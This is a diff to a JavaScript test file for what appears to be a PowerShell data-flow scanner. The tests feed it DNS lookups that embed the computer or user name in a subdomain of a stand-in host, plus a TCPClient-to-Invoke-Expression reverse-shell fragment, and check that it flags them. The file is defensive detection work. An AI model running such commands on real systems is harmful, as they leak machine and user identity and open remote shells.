@@ -83,6 +83,14 @@ describe('powershell', () => {
     else expect(found).toContain(source);
   });
 
+  test('what the machine is called in full is asked of no stranger', () => {
+    expect(flows('[System.Net.Dns]::GetHostEntry($env:computerName).HostName', POWERSHELL, 'dns.query')).toEqual([]);
+    expect(flows('[Net.Dns]::GetHostEntry("$env:computerName.h.test")', POWERSHELL, 'dns.query')).toContain(
+      'identity.host',
+    );
+    expect(flows('Resolve-DnsName "$env:username.h.test"', POWERSHELL, 'dns.query')).not.toEqual([]);
+  });
+
   test('a socket that ends in Invoke-Expression is a reverse shell', () => {
     const text = "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s=$c.GetStream(); iex $d";
     const { observations } = scanTokens(
